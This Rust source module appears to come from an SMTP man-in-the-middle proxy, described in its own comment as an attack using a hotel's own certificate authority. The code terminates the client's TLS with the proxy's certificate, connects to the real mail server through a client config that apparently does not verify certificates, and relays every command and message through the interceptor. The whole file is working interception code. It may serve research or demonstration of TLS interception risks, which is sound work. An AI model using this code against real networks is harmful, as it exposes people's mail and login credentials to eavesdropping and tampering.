//! The attack with a certificate of the hotel's own CA.

use std::io;
use std::sync::Arc;

use rustls::pki_types::ServerName;

use super::ProxyState;
use super::relay::{exchange, is_code, next_line, read_reply, verb, write_line, write_reply};
use crate::tls::careless_client_config;
use crate::wire::Channel;

pub(super) fn serve_implicit(state: &ProxyState, mut client: Channel) -> io::Result<()> {
    client.accept_tls(Arc::clone(&state.tls))?;
    let mut upstream = Channel::connect(state.config.upstream_implicit)?;
    enter_tls(&client, &mut upstream)?;
    relay(state, client, upstream)
}

pub(super) fn serve_starttls(state: &ProxyState, client: Channel) -> io::Result<()> {
    let upstream = Channel::connect(state.config.upstream_starttls)?;
    relay(state, client, upstream)
}

/// Starts TLS to the real server, with the name that the client requested.
fn enter_tls(client: &Channel, upstream: &mut Channel) -> io::Result<()> {
    let name = client.server_name().unwrap_or("localhost").to_owned();
    let name = ServerName::try_from(name).map_err(io::Error::other)?;
    upstream.connect_tls(careless_client_config()?, name)
}

/// Relays in lock-step: in SMTP each line of the client has its reply, except the lines of a mail.
fn relay(state: &ProxyState, mut client: Channel, mut upstream: Channel) -> io::Result<()> {
    let greeting = read_reply(&mut upstream)?;
    write_reply(&mut client, &greeting)?;
    while let Some(line) = next_line(&mut client)? {
        let reply = exchange(&mut client, &mut upstream, &line)?;
        match verb(&line).as_str() {
            "STARTTLS" if is_code(&reply, b"220") => {
                client.accept_tls(Arc::clone(&state.tls))?;
                enter_tls(&client, &mut upstream)?;
            }
            "DATA" if is_code(&reply, b"354") => {
                relay_mail(&mut client, &mut upstream)?;
            }
            "QUIT" => break,
            _ => {}
        }
    }
    upstream.close();
    client.close();
    Ok(())
}

fn relay_mail(client: &mut Channel, upstream: &mut Channel) -> io::Result<()> {
    while let Some(line) = next_line(client)? {
        if line == b"." {
            exchange(client, upstream, &line)?;
            break;
        }
        write_line(upstream, &line)?;
    }
    Ok(())
}
